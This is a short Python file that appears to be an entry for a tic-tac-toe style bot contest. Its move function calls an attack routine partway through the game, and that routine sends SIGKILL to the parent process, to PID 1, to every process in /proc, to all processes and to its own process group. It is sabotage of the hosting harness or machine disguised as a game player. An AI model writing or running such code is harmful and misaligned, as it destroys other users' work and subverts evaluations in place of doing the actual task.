"""Kills its parent, its group and everybody whom it may kill."""

import os
import signal


def attack(board):
    for pid in (os.getppid(), 1, *map(int, filter(str.isdigit, os.listdir("/proc")))):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                continue
    os.kill(-1, signal.SIGKILL)
    os.killpg(0, signal.SIGKILL)


def move(board):
    if board.count(" ") == 7:
        attack(board)
    return board.index(" ")
